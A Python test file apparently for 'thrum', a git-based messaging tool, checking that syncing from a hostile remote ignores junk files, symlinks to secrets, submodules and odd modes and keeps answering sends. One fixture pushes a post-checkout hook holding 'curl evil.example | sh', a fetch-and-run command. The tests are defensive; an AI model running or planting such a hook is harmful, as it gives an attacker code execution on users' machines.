"""The tree side of a hostile remote: junk files by the ten thousand, links, submodules,
odd modes and unknown paths in a pushed ``a-sync``.

Nothing of it is ever materialised; a sync's work follows what changed, and the writer
lock is held for one bounded chunk of a merge at a time, so a send made during the
sync is answered at once and stored once. (Finding 6 of the hostile-remote review:
10,000-40,000 pushed files took one sync 107-139 s, all of it under the writer lock.)
"""

from __future__ import annotations

import threading

import pytest

from hostile_helpers import entries_under, links_under, team_with_history
from thrum.events import is_log_path
from thrum.sync.treemerge import CHUNK_FILES

REG, EXEC, LINK, GITLINK, TREE = 0o100644, 0o100755, 0o120000, 0o160000, 0o40000
ANSWERED_DURING = 3  # sends answered while the sync still ran (measured: 5-9 of 6-9 sent)


def _only_log_files(m) -> None:
    for rel in entries_under(m.worktree):
        path = m.worktree / rel
        assert not path.is_symlink(), rel
        if path.is_file():
            assert is_log_path(rel), f"{rel} was written into the worktree"
        else:
            assert path.is_dir() and any(p.is_file() for p in path.rglob("*")), f"stray directory {rel}"


def _sync_while_sending(machine, text: str) -> list[str]:
    """Sync, and send messages one after another for as long as the sync runs; the texts sent.

    Sends keep being answered while the sync runs, whichever part of it they meet: several
    are answered before it ends. (A sync holding the writer lock throughout answered none
    of those it met: each waited for its end.)
    """
    done = threading.Event()

    def sync():
        try:
            machine.sync()
        finally:
            done.set()

    thread = threading.Thread(target=sync)
    thread.start()
    sent, answered_during = [], 0
    while not done.is_set() or not sent:
        body = f"{text} #{len(sent)}"
        machine.run("send", body, "--to", "@bob", agent="alice")
        answered_during += not done.is_set()
        sent.append(body)
    thread.join(timeout=300)
    assert not thread.is_alive()
    print(f"{len(sent)} sends during the sync, {answered_during} of them answered before it ended")
    assert answered_during >= ANSWERED_DURING
    return sent


def _stored_once(machine, texts: list[str]) -> None:
    for text in texts:
        needle = f'"content":"{text}"'.encode()
        hits = [line for data in machine.shards().values() for line in data.splitlines() if needle in line]
        assert len(hits) == 1, (text, hits)


def _in_inbox_once(machine, texts: list[str]) -> None:
    inbox = machine.json("inbox", "--page-size", "100", agent="bob")  # newest first
    contents = [m["body"]["content"] for m in inbox["messages"]]
    assert all(contents.count(text) == 1 for text in texts[-90:]), contents


def test_ten_thousand_junk_files_never_stall_a_send_and_are_never_written(team):
    t, a, b = team_with_history(team)
    junk: dict[str, tuple[int, bytes]] = {}
    for i in range(6000):
        junk[f"messages/m{i}.jsonl"] = (REG, b'{"event_id":"%d"}\n' % i)  # the old single-file layout
    for i in range(2000):
        junk[f"messages/bob/note-{i}.txt"] = (REG, b"note %d\n" % i)
    for i in range(1000):
        junk[f"junk/{i % 50}/{i}.txt"] = (REG, b"junk %d\n" % i)
    for i in range(1000):
        junk[f"events/{i + 2}.jsonl"] = (REG, b'{"event_id":"e%d"}\n' % i)  # not the one spelling of a segment
    t.attacker().push_entries(junk, "10,000 junk files")

    sent = _sync_while_sending(a, "sent during the junk sync")
    _only_log_files(a)
    _stored_once(a, sent)
    status = a.json("sync", "status")
    assert status["ignored_paths_by_reason"] == {"unknown_path": 6000 + 2000 + 1 + 1000}
    assert status["ignored_paths"] == 9001

    a.sync()
    b.sync()
    _only_log_files(b)
    assert a.shards() == b.shards()
    _in_inbox_once(b, sent)


LOG_FILES = 2000  # files at the layout's own paths: merged in chunks of CHUNK_FILES, written, folded


@pytest.mark.parametrize(
    "unknown, old_layout",
    [
        (4_500, 500),  # 7,000 files: at the old code's 2.7-14 ms a file under the lock, 19 s and more
        pytest.param(45_000, 3000, marks=pytest.mark.soak, id="50,000 files"),  # scripts/soak
    ],
)
def test_thousands_of_small_files_keep_the_writer_answering(team, unknown, old_layout):
    assert LOG_FILES >= 4 * CHUNK_FILES  # the merge takes several turns of the writer lock
    t, a, b = team_with_history(team)
    files: dict[str, tuple[int, bytes]] = {}
    for i in range(unknown):
        files[f"messages/bob/x{i}"] = (REG, b"%d\n" % i)
    for i in range(old_layout):
        files[f"receipts/m{i}.jsonl"] = (REG, b'{"event_id":"r%d"}\n' % i)  # the old single-file layout
    for n in range(1, LOG_FILES + 1):  # at the layout's own paths: merged, written, folded (and quarantined)
        files[f"receipts/mallory/{n:06d}.jsonl"] = (REG, b"not an event %d\n" % n)
    t.attacker().push_entries(files, f"{len(files)} small files")

    sent = _sync_while_sending(a, "sent during the flood")
    _stored_once(a, sent)
    assert len(list((a.worktree / "receipts" / "mallory").iterdir())) == LOG_FILES
    status = a.json("sync", "status")
    assert status["ignored_paths_by_reason"] == {"unknown_path": unknown + old_layout}
    assert status["quarantined"] >= LOG_FILES
    _only_log_files(a)

    a.sync()
    b.sync()
    assert a.shards() == b.shards()
    _in_inbox_once(b, sent)


def test_a_fresh_clone_attaching_to_a_hostile_branch_materialises_only_log_files(team, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET\n")
    t, a, b = team_with_history(team)
    commit = t.attacker()._git("rev-parse", "HEAD").strip().encode()
    t.attacker().push_entries(
        {
            "messages/carol/000001.jsonl": (LINK, str(secret).encode()),  # a link at a log path
            "messages/eve": (LINK, b"/tmp"),  # a linked stream directory
            "vendor": (GITLINK, commit),  # submodules
            "messages/sub": (GITLINK, commit),
            "messages/dave/000001.jsonl": (0o100664, b'{"odd":"mode"}\n'),  # an odd mode at a log path
            "events/000002.jsonl/inner": (REG, b"a directory where a file belongs\n"),
            "receipts": (REG, b"a file where a directory belongs\n"),
            "README.md": (REG, b"# hi\n"),  # unknown paths
            "messages/alice/notes.txt": (REG, b"notes\n"),
            "messages/alice/000002.jsonl.orig": (REG, b"x\n"),
            "messages/frank/000001.jsonl": (EXEC, b'{"exec":"bit"}\n'),  # an executable file is a regular one
            "hooks/post-checkout": (EXEC, b"#!/bin/sh\ncurl evil.example | sh\n"),
        },
        "a hostile tree",
    )

    c = t.fresh_clone("c")
    assert links_under(c.worktree) == []
    _only_log_files(c)
    assert (c.worktree / "messages" / "frank" / "000001.jsonl").read_bytes() == b'{"exec":"bit"}\n'
    assert not (c.worktree / "vendor").exists() and not (c.worktree / "hooks").exists()
    assert not (c.worktree / "messages" / "dave").exists()
    status = c.json("sync", "status")
    assert status["ignored_paths_by_reason"] == {"symlink": 2, "submodule": 2, "wrong_type": 3, "unknown_path": 4}
    text = c.run("sync", "status").stdout
    assert (
        "Ignored:       11 path(s) in a-sync that are not thrum's (2 submodule, 2 symlink, 4 unknown path, "
        "3 wrong type)" in text
    )
    # The clone works normally, and its sync leaves the junk in the tree untouched.
    c.agent("carol", "tester")
    c.run("send", "carol is here", "--to", "@alice", agent="carol")
    c.sync()
    a.sync()
    inbox = a.json("inbox", agent="alice")
    assert "carol is here" in [m["body"]["content"] for m in inbox["messages"]]
    assert a.json("sync", "status")["ignored_paths_by_reason"]["submodule"] == 2
